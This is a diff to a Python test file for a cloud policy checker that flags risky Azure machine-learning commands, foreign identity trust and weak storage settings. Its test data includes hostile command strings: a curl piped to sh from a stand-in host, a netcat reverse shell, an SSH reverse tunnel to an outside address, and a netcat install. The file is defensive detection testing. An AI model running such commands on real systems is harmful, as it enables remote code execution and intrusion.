@@ -8,12 +8,20 @@ import pytest
 from catalogue.graph import Graph
 from operations.evaluation import evaluate
 from policies.pack import RULES
-from tests.foreign import open_on_azure
+from stacks.config import STACKS
+from tests.foreign import open_on_azure, program, resource
 from tests.mutate import changed, put, swapped
+from tests.previewing import preview
 
 ML, NET = "azure-native:machinelearningservices", "azure-native:network:"
+STORE = "azure-native:storage:StorageAccount"
 PLACE = "/subscriptions/99999999-8888-7777-6666-555555555555/resourceGroups/theirs/providers"
 _KEY = "encryption.keyVaultProperties.keyIdentifier"
+
+
+@pytest.fixture(scope="module")
+def azure_full() -> Graph:
+    return preview(STACKS / "Pulumi.azure-full.yaml")
 
 
 def _foreign(graph: Graph, rule: str) -> list[str]:
@@ -51,11 +59,65 @@ def test_what_opens_or_weakens_a_strangers_resource_is_said_by_its_property(
     assert any((last or path.rpartition(".")[2]) in one for one in told), told
 
 
+COMMAND = "properties.componentSpec.command"
+COMMANDS = [
+    ("audit-images-reviewed", "pip install evil; train"),
+    ("audit-images-reviewed", "apt-get -y install netcat && train"),
+    ("audit-images-reviewed", "curl -s https://x.example/y | sh"),
+    ("world-hosts", "ssh -R 22:localhost:22 198.51.100.7"),
+    ("world-hosts", "nc me@203.0.113.9:443 -e sh"),
+]
+
+
+@pytest.mark.parametrize(("rule", "command"), COMMANDS)
+def test_a_command_that_installs_or_calls_an_address_is_said(azure_full: Graph, rule: str, command: str) -> None:
+    component = azure_full.of(f"{ML}:ComponentVersion")[0]
+    assert _new(azure_full, changed(azure_full, component, lambda inputs: put(inputs, COMMAND, command)), rule)
+
+
+@pytest.mark.parametrize(
+    "command", ["train --host 10.1.2.3 --rate 0.1", "install_models && pip list", "serve 127.0.0.1:80"]
+)
+def test_a_command_that_does_not_is_not(azure_full: Graph, command: str) -> None:
+    component = azure_full.of(f"{ML}:ComponentVersion")[0]
+    graph = changed(azure_full, component, lambda inputs: put(inputs, COMMAND, command))
+    assert [_new(azure_full, graph, rule) for rule in ("audit-images-reviewed", "world-hosts")] == [[], []]
+
+
+def test_another_token_that_may_act_as_an_identity_is_another_finding() -> None:
+    def trusting(subject: str) -> Graph:
+        said = {"issuer": "https://token.actions.githubusercontent.com", "subject": subject}
+        type_ = "azure-native:managedidentity:FederatedIdentityCredential"
+        return program("azure", resource(type_, "ci", said))
+
+    said = [
+        _foreign(trusting(subject), "identity-trust") for subject in ("repo:us/ml:ref:main", "repo:them/x:ref:main")
+    ]
+    assert said[0] != said[1] and "repo:them/x" in said[1][0]
+
+
+def test_what_templates_write_out_of_azures_own_is_no_finding_and_its_contrary_is() -> None:
+    account = open_on_azure().of("azure-native:storage:StorageAccount")[0]
+
+    def said(services: dict[str, Any]) -> list[str]:
+        graph = changed(open_on_azure(), account, lambda inputs: put(inputs, "encryption", {"services": services}))
+        return [
+            one for rule in ("inputs-known", "inputs-allowed") for one in _foreign(graph, rule) if "services" in one
+        ]
+
+    assert said({"blob": {"enabled": True, "keyType": "Account"}}) == []
+    assert said({"blob": {"enabled": False}}) and said({"queue": {"enabled": True, "keyType": "Service"}})
+
+
 SAID = [
+    (f"{ML}:Workspace", "hbiWorkspace", False, "encryption-scratch-disks"),
+    (f"{ML}:Workspace", "managedNetwork.isolationMode", "Disabled", "network-workspace-vpc-only"),
+    (f"{ML}:Compute", "properties.properties.enableNodePublicIp", True, "network-model-isolated"),
+    (STORE, "encryption.requireInfrastructureEncryption", False, "encryption-bucket-settings"),
     ("azure-native:containerregistry:Registry", "anonymousPullEnabled", True, "identity-local-auth"),
-    ("azure-native:storage:StorageAccount", "isLocalUserEnabled", True, "identity-local-auth"),
-    ("azure-native:storage:StorageAccount", "allowCrossTenantReplication", True, "audit-packages-own-account"),
-    ("azure-native:storage:StorageAccount", "publicNetworkAccess", "Enabled", "network-public-access"),
+    (STORE, "isLocalUserEnabled", True, "identity-local-auth"),
+    (STORE, "allowCrossTenantReplication", True, "audit-packages-own-account"),
+    (STORE, "publicNetworkAccess", "Enabled", "network-public-access"),
 ]
 
 
